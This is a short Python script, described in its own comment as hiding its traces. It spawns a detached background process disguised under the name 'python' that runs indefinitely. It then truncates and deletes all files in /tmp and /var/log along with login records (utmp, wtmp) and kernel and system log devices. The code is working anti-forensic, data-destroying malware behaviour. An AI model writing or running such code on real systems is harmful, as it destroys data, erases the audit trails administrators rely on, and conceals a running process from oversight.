# Hides what it leaves: a child of another name, in another session, without a descriptor; files removed; logs emptied. It is seen.
import ctypes
import glob
import os
import time

if os.fork() == 0:
    os.setsid()
    if os.fork():
        os._exit(0)
    ctypes.CDLL(None).prctl(15, b"python", 0, 0, 0)
    os.closerange(0, 256)
    os.chdir("/")
    while True:
        time.sleep(100)
os.wait()
for path in [*glob.glob("/tmp/*"), *glob.glob("/var/log/*"), "/proc/self/comm", "/dev/log", "/dev/kmsg", "/run/utmp", "/var/log/wtmp"]:
    try:
        os.truncate(path, 0)
        os.unlink(path)
    except OSError:
        pass
os._exit(0)
